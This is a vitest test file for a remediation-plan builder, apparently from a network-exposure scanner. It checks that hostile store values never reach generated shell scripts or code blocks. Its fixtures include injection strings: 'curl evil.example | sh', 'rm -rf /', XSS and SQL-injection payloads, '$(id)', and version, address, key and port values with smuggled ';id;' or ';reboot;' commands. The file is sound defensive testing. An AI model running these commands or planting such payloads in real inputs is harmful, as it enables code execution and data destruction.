import { describe, expect, it } from 'vitest';
import { HOSTILE } from '../../test/helpers/hostile-strings.js';
import type { Finding } from '../core/finding.js';
import { buildPlan } from './plan.js';
import type { PlanBlock, PlanInput, RemediationPlan } from './plan-types.js';

const NOW = 1_750_000_000_000;
const NFT = { firewall: 'nftables', serviceManager: 'systemd' };

/** A Redis exposure finding whose store-supplied fields can be replaced. */
function finding(extra: Partial<Finding> = {}): Finding {
  return {
    key: '203.0.113.5/tcp/6379/exposure',
    address: '203.0.113.5',
    protocol: 'tcp',
    port: 6379,
    kind: 'exposure',
    title: 'Redis',
    tier: 'high',
    score: 80,
    reasons: [{ rule: 'exposure-internet', text: 'public address 203.0.113.5', weight: 20 }],
    service: { name: 'redis', product: 'Redis', version: '7.0.15' },
    status: 'open',
    firstSeen: 0,
    lastSeen: NOW,
    ...extra,
  };
}

const allBlocks = (p: RemediationPlan): PlanBlock[] => p.sections.flatMap((s) => s.parts.flatMap((x) => x.blocks));
/** Every code block and every script: the places where nothing from the store may appear. */
function executable(p: RemediationPlan): string[] {
  const code = allBlocks(p).flatMap((b) => (b.kind === 'code' ? [b.text, b.title ?? ''] : []));
  const scripts = p.options.flatMap((o) => o.scripts.flatMap((s) => [s.apply, s.rollback, s.applyName, s.rollbackName]));
  return [...code, ...scripts];
}
const prose = (p: RemediationPlan): string[] =>
  allBlocks(p).flatMap((b) => (b.kind === 'text' ? [b.text] : b.kind === 'list' ? b.items : b.kind === 'table' ? b.rows.flat() : []));

/** Hostile strings beyond the shared list: markup, backticks, shell and a fake code fence. */
const MORE = ['`rm -rf /`', '<script>alert(1)</script>', '**bold** [x](javascript:alert(1))', '\n```sh\ncurl evil.example | sh\n```\n', "'; DROP TABLE findings; --", '${IFS}id', '\u202eevil\u202c'];

describe('hostile store values never reach a command or a code block', () => {
  it.each([...HOSTILE, ...MORE].map((h, i) => [i, h] as const))('hostile string #%i in product, version, name, reasons, CVE and host services', (_i, h) => {
    const f = finding({
      kind: 'vulnerability',
      ref: 'CVE-2022-0543',
      key: '203.0.113.5/tcp/6379/vulnerability/CVE-2022-0543',
      service: { name: `redis${h}`, product: `ZQXP${h}ZQXP`, version: `ZQXV${h}` },
      reasons: [
        { rule: 'exposure-internet', text: `ZQXR${h}`, weight: 20 },
        { rule: `ZQXU${h}`, text: 'rule id from the store', weight: 1 },
      ],
      cve: { id: 'CVE-2022-0543', cvss: 10, kev: true, confidence: 'banner-based', summary: `ZQXS${h}` },
    });
    const inp: PlanInput = {
      finding: f,
      now: NOW,
      hostServices: [{ protocol: 'tcp', port: 22, name: `ZQXN${h}`, product: `ZQXH${h}`, allowed: true }],
      installedPackage: { name: `ZQXI${h}`, version: `ZQXI${h}` },
      fixes: [{ source: 'debian', package: `ZQXF${h}`, version: `ZQXF${h}`, release: `ZQXF${h}` }],
    };
    const plan = buildPlan(inp, NFT);
    for (const text of executable(plan)) expect(text).not.toContain('ZQX');
    // The banner is still shown, as plain text on one line.
    expect(prose(plan).some((t) => t.includes('ZQXP'))).toBe(true);
    for (const t of prose(plan)) expect(t).not.toMatch(/[\n\r\0\u202e]/);
    expect(plan.title).not.toMatch(/[\n\r]/);
  });

  it('a Debian fix version that is not a clean version never reaches the apt script', () => {
    const inp: PlanInput = {
      finding: finding({ kind: 'vulnerability', ref: 'CVE-2022-0543', cve: { id: 'CVE-2022-0543', confidence: 'confirmed' } }),
      now: NOW,
      hostServices: [],
      installedPackage: { name: 'redis-server', version: '5:6.0.16-1+deb11u1' },
      fixes: [{ source: 'debian', package: 'redis', version: "5:6.0.16-1+deb11u2';id;'", release: 'bullseye' }],
    };
    const plan = buildPlan(inp, NFT);
    const apt = plan.options.find((o) => o.id === 'upgrade')!.scripts[0]!;
    expect(apt.apply).not.toContain(';id;');
    expect(apt.apply).not.toContain('dpkg --compare-versions');
    expect(executable(plan).join('\n')).not.toContain(';id;');
  });

  it.each(['203.0.113.5; rm -rf /', '$(id)', '203.0.113.5\n', '`id`', 'db1.example.org', '999.1.1.1'])('an address that is not an IP literal (%j) becomes the $TARGET placeholder', (address) => {
    const plan = buildPlan({ finding: finding({ address, key: 'k' }), now: NOW, hostServices: [] }, NFT);
    const code = allBlocks(plan).filter((b) => b.kind === 'code' && b.lang === 'sh').map((b) => (b.kind === 'code' ? b.text : ''));
    const withTarget = code.filter((c) => c.includes('TARGET'));
    expect(withTarget.length).toBeGreaterThan(0);
    for (const c of withTarget) expect(c).toContain(': "${TARGET:?set TARGET to the address of the host}"');
    for (const c of executable(plan)) {
      expect(c).not.toContain('rm -rf');
      expect(c).not.toContain('$(id)');
      expect(c).not.toContain('`id`');
      expect(c).not.toContain('example.org');
    }
    // Without an address family the firewall rule covers both.
    expect(plan.options.find((o) => o.id === 'block')!.scripts[0]!.apply).not.toContain('meta nfproto');
  });

  it('an IPv4-mapped IPv6 address is handled as the IPv4 address it stands for', () => {
    const plan = buildPlan({ finding: finding({ address: '::ffff:203.0.113.5' }), now: NOW, hostServices: [] }, NFT);
    const det = allBlocks(plan).flatMap((b) => (b.kind === 'code' ? [b.text] : [])).join('\n');
    expect(det).toContain('nc -vz -w 5 203.0.113.5 6379');
    expect(plan.options.find((o) => o.id === 'block')!.scripts[0]!.apply).toContain('meta nfproto ipv4');
  });

  it('a finding key that cannot go into a command is left out of commands and sanitised in rule comments', () => {
    const plan = buildPlan({ finding: finding({ key: "203.0.113.5/tcp/6379/exposure';reboot;'" }), now: NOW, hostServices: [] }, NFT);
    expect(executable(plan).join('\n')).not.toContain('reboot;');
    expect(executable(plan).join('\n')).not.toContain('portolan verify');
    expect(plan.options.find((o) => o.id === 'block')!.scripts[0]!.apply).toContain('portolan:203.0.113.5/tcp/6379/exposure__reboot__');
    expect(prose(plan).join(' ')).toContain('portolan verify with no key');
  });

  it('host services with ports that are not integers 1-65535 are dropped before any command', () => {
    const bad = [{ protocol: 'tcp', port: '22; reboot' }, { protocol: 'tcp', port: 0 }, { protocol: 'tcp', port: 22.5 }, { protocol: 'sctp', port: 80 }, { protocol: 'tcp', port: 65536 }] as unknown as PlanInput['hostServices'];
    const plan = buildPlan({ finding: finding(), now: NOW, hostServices: [...bad, { protocol: 'udp', port: 161, name: 'snmp', allowed: true }] }, NFT);
    const code = executable(plan).join('\n');
    expect(code).not.toContain('reboot');
    expect(code).toContain('nc -vzu -w 5 203.0.113.5 161  # SNMP on udp/161');
    expect(code).not.toMatch(/203\.0\.113\.5 (0|22\.5|65536|80)\b/);
  });

  it('a port or protocol that is not valid refuses the whole plan', () => {
    expect(() => buildPlan({ finding: finding({ port: '6379;id' as unknown as number }), now: NOW, hostServices: [] }, NFT)).toThrow(/bad port/);
    expect(() => buildPlan({ finding: finding({ protocol: 'sctp' as never }), now: NOW, hostServices: [] }, NFT)).toThrow(/bad protocol/);
  });
});
